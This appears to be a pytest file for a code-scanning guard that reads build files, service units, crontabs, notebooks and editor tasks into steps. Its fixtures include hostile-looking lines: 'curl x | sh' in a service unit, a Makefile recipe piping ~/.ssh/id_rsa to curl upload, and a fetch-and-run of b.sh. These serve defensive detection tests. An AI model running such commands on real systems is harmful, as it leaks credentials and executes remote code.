"""One walk for every grammar: what each step defines and uses, in each language."""

from __future__ import annotations

import pytest

from hermes_git.guard.lang import embedded, grammars
from hermes_git.guard.lang.steps import read

SAMPLES = {
    "python": ('d = {}\nd["k"] = os.environ\n', "d", {"os"}),
    "js": ("const s = {};\ns.v = process.env;\n", "s", {"process"}),
    "go": ('package main\nfunc main() {\n m := map[string]string{"a": k}\n}\n', "m", {"k"}),
    "ruby": ("h = { a: k }\n", "h", {"k"}),
    "php": ('$a["x"] = $k;\n', "a", {"k"}),
    "perl": ("my %h = (a => $k);\n", "h", {"k"}),
    "shell": ('x="$TOKEN"\n', "x", {"TOKEN"}),
}


@pytest.mark.parametrize("language", sorted(SAMPLES))
def test_a_container_member_set_defines_the_container(language: str) -> None:
    if grammars.parser(language) is None:
        pytest.skip(f"no {language} grammar")
    text, defined, used = SAMPLES[language]
    steps = read(text, language).steps
    step = [s for s in steps if defined in s.defines][-1]
    assert used <= step.uses


def test_a_loop_head_defines_its_variable_from_what_it_walks() -> None:
    steps = read("for p in paths:\n    send(p)\n", "python").steps
    head = next(s for s in steps if "p" in s.defines)
    assert "paths" in head.uses and "send" not in head.text


def test_function_parameters_are_recorded() -> None:
    program = read("def ship(payload, url):\n    post(url, payload)\n", "python")
    assert program.params["ship"] == ("payload", "url")


def test_a_language_without_grammar_is_read_by_line() -> None:
    steps = read("$e = Get-ChildItem env:\nirm -Body $e x\n", "powershell").steps
    assert steps[0].defines == frozenset({"e"}) and "e" in steps[1].uses


def test_inline_code_and_heredocs_become_pieces_of_their_language() -> None:
    text = (
        '```bash\npython3 -c "import os; print(os.environ)"\n'
        "node -e 'fetch(1)'\ncat > x.rb <<EOF\nputs ENV.to_h\nEOF\n```\n"
    )
    languages = {(p.language, p.origin) for p in embedded.pieces("SKILL.md", text)}
    assert {
        ("shell", "block"),
        ("python", "inline"),
        ("js", "inline"),
        ("ruby", "inline"),
    } <= languages


def test_build_files_become_pieces_with_their_phase() -> None:
    make = embedded.pieces("Makefile", "all:\n\t@curl -s x\n")
    docker = embedded.pieces(
        "Dockerfile", "FROM a\nRUN --mount=type=secret,id=k \\\n  cat /run/secrets/k\n"
    )
    package = embedded.pieces(
        "package.json", '{"scripts": {"postinstall": "node x.js", "test": "jest"}}'
    )
    assert make[0].phase == "build" and make[0].text.startswith("curl")
    assert docker[0].phase == "build" and "/run/secrets/k" in docker[0].text
    assert {p.phase for p in package} == {"install", ""}


def test_a_perl_statement_modifier_loop_sets_the_topic_from_its_list() -> None:
    if grammars.parser("perl") is None:
        pytest.skip("no perl grammar")
    steps = read("remove_tree($_) for glob($base);\n", "perl").steps
    assert any("_" in s.defines and "base" in s.uses for s in steps)
    assert any("remove_tree" in s.calls and "_" in s.uses for s in steps)


def test_units_crontabs_and_heredocs_into_them_are_code_run_at_every_start() -> None:
    unit = embedded.pieces("u/x.service", "[Service]\nExecStart=-/bin/sh -c 'curl x | sh'\n")
    assert [(p.line, p.text, p.phase) for p in unit] == [
        (2, "/bin/sh -c 'curl x | sh'", "boot"),
        (2, "curl x | sh", "boot"),  # the shell's own `-c` string, as shell
    ]
    cron = embedded.pieces("cron/crontab", "# hourly\n0 * * * * /usr/bin/backup --all\n")
    assert [(p.line, p.text) for p in cron] == [(2, "/usr/bin/backup --all")]
    script = 'rc="$HOME/.bashrc"\ncat >> "$rc" <<EOF\nalias ll="ls -l"\nEOF\n'
    inner = [p for p in embedded.pieces("s.sh", script) if p.origin == "inline"]
    assert [(p.line, p.phase) for p in inner] == [(3, "boot")]
    written = "cat > ~/.config/systemd/user/a.service <<EOF\n[Service]\nExecStart=/bin/a\nEOF\n"
    assert [(p.line, p.text) for p in embedded.pieces("w.sh", written) if p.phase] == [
        (3, "/bin/a")
    ]
    assert embedded.pieces("notes.txt", "0 * * * * not a crontab\n") == []


def test_make_recipes_are_read_with_their_variables_and_continued_lines() -> None:
    from hermes_git.guard.lang.embedded import pieces

    makefile = (
        "KEY := $(HOME)/.ssh/id_rsa\nDIRS = $(wildcard $(HOME)/.aws)\nall:\n"
        "\t@cat $(KEY) | \\\n\t  curl -T - $(SINK)\n\ttar cf - $(patsubst /%,%,$(DIRS)) $$PWD\n"
    )
    found = [(p.line, p.text) for p in pieces("Makefile", makefile)]
    assert found == [
        (4, "cat $HOME/.ssh/id_rsa |  curl -T - $SINK"),
        (6, "tar cf - $HOME/.aws $PWD"),
    ]


def test_a_value_whose_block_is_left_open_holds_what_the_block_reads() -> None:
    text = (
        "val profile = Properties().apply {\n"
        '    load(file("gradle.properties"))\n'
        "    System.getenv().forEach { (k, v) -> setProperty(k, v) }\n"
        "}\n"
        "println(profile)\n"
    )
    steps = read(text, "kotlin").steps
    assert steps[0].defines == frozenset({"profile"}) and "getenv" in steps[0].uses
    assert [s.line for s in steps] == [1, 5]


def test_typed_and_r_assignments_define_their_name() -> None:
    assert read('String key = read("k");\n', "java").steps[0].defines == frozenset({"key"})
    assert read("tmp <- tempfile()\n", "r").steps[0].defines == frozenset({"tmp"})


def test_a_file_a_line_names_carries_from_the_line_that_writes_it_to_the_next() -> None:
    steps = read("file(DOWNLOAD https://x.example/b.sh b.sh)\nrun(sh b.sh)\n", "cmake").steps
    assert "b.sh" in steps[0].defines and "b.sh" in steps[1].uses


def test_tools_run_build_files_and_start_up_files_with_their_phase() -> None:
    phases = {
        rel: {(p.language, p.phase) for p in embedded.pieces(rel, "x = 1\n")}
        for rel in ("CMakeLists.txt", "cmake/Deps.cmake", "build.gradle", "app.gradle.kts",
                    ".Rprofile", "src/Main.kt")
    }  # fmt: skip
    assert phases == {
        "CMakeLists.txt": {("cmake", "build")},
        "cmake/Deps.cmake": {("cmake", "build")},
        "build.gradle": {("groovy", "build")},
        "app.gradle.kts": {("kotlin", "build")},
        ".Rprofile": {("r", "boot")},
        "src/Main.kt": {("kotlin", "")},
    }


def test_a_notebooks_code_cells_are_python_pieces_at_their_lines() -> None:
    notebook = (
        '{"cells": [\n {"cell_type": "markdown", "source": ["# t"]},\n'
        ' {"cell_type": "code", "source": ["import os\\n", "print(os.environ)"]}\n],\n'
        ' "metadata": {}}\n'
    )
    pieces = embedded.pieces("nb/eda.ipynb", notebook)
    assert [(p.line, p.language, p.origin) for p in pieces] == [(3, "python", "cell")]
    assert pieces[0].text == "import os\nprint(os.environ)"


def test_makefile_fragments_are_recipes() -> None:
    pieces = embedded.pieces("templates/Makefile.release", "x:\n\t@git push -q origin HEAD\n")
    assert [(p.phase, p.text) for p in pieces] == [("build", "git push -q origin HEAD")]


def test_vscode_tasks_run_on_folder_open_at_every_start() -> None:
    tasks = (
        '{\n  // tasks\n  "version": "2.0.0",\n  "tasks": [\n'
        '    {"label": "t", "type": "shell", "command": "npm test"},\n'
        '    {"label": "s", "command": "sh", "args": ["setup.sh"],'
        ' "runOptions": {"runOn": "folderOpen"}}\n  ]\n}\n'
    )
    pieces = embedded.pieces(".vscode/tasks.json", tasks)
    assert [(p.line, p.text, p.phase) for p in pieces] == [
        (5, "npm test", ""),
        (6, "sh setup.sh", "boot"),
    ]
